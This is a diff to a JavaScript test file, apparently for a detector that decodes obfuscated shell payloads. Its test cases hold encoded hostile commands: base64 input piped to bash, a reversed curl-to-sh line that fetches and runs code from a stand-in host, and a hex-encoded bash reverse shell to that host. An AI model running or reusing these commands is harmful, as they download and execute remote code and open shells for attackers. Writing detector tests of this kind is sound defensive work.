@@ -144,7 +144,7 @@ describe('decoded payloads', () => {
   it.each([
     [`echo ${payload} | base64 -d | bash`, 'base64'],
     [`eval "$(echo ${payload} | base64 --decode)"`, 'base64'],
-    [`echo '${[...'curl -s http://192.0.2.1/x|sh'].reverse().join('')}' | rev | sh`, 'reverse'],
+    [`echo '${Array.from('curl -s http://192.0.2.1/x|sh').reverse().join('')}' | rev | sh`, 'reverse'],
     [`echo ${Buffer.from('bash -i >& /dev/tcp/192.0.2.1/443 0>&1').toString('hex')} | xxd -r -p | sh`, 'hex'],
   ])('%s', (script, encoding) => {
     const e = sh(script);
